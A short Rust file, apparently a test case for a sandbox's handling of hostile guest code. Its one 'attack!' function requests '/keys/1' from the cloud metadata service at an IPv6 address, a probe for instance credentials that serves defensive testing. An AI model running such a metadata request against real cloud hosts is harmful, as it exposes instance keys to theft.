//! The metadata service of a cloud, in IPv6.

use keywright_guest_hostile::*;

attack! {
    fn check(_: &Account) -> Result<Principal> {
        get("/keys/1").to("[fd00:ec2::254]").tell()
    }
}
